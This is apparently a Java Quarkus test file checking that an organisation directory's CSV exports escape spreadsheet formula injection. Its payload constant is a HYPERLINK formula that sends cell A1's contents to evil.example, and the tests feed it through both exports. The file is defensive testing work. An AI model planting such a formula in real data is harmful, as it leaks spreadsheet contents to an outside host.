package de.kreativland.transfer.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.kreativland.transfer.ApiTest;
import de.kreativland.transfer.TestTokens;
import de.kreativland.transfer.common.SpreadsheetCsv;
import de.kreativland.transfer.sync.Feeds;
import io.quarkus.test.junit.QuarkusTest;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** A formula typed into a text field stays text in every CSV export that carries it. */
@QuarkusTest
class CsvInjectionTest extends ApiTest {
    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Mehr erfahren\")";

    @Test
    void everyFormulaPrefixIsNeutralisedButNumbersStayNumbers() {
        for (String formula : List.of("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx")) {
            assertEquals("'" + formula, SpreadsheetCsv.inert(formula), formula);
        }
        for (String plain : List.of("-3.5", "+12", "42", "1e3", "Kulturhaus", "", "'=schon zitiert")) {
            assertEquals(plain, SpreadsheetCsv.inert(plain), plain);
        }
    }

    @Test
    void summaryWithAFormulaIsTextInThePublicAndTheStaffExport() {
        String name = "Formelverein " + UUID.randomUUID().toString().substring(0, 8);
        Map<String, Object> input = new HashMap<>();
        input.put("name", name);
        input.put("kind", "ASSOCIATION");
        input.put("submarkets", List.of("MUSIC"));
        input.put("settlementType", "RURAL_MUNICIPALITY");
        input.put("postalCode", "09456");
        input.put("town", "Annaberg-Buchholz");
        input.put("state", "SN");
        input.put("summary", FORMULA);
        input.put("programmeRole", "BEST_PRACTICE");
        api(TestTokens.coordinator()).contentType("application/json").body(input)
                .when().post("/api/v1/organisations").then().statusCode(201);

        assertNeutralised(name, Feeds.export(null, "text/csv").when().get("/api/v1/partners").then().statusCode(200).extract().asString());
        assertNeutralised(name, Feeds.export(TestTokens.coordinator(), "text/csv").when().get("/api/v1/organisations")
                .then().statusCode(200).extract().asString());
    }

    private static void assertNeutralised(String name, String csv) {
        String row = csv.lines().filter(line -> line.contains(name)).findFirst().orElseThrow(() -> new AssertionError(name + " not exported"));
        String quoted = "\"" + FORMULA.replace("\"", "\"\"") + "\"";
        assertFalse(row.contains("," + quoted), row);
        assertTrue(row.contains(",\"'" + FORMULA.replace("\"", "\"\"") + "\""), row);
    }
}
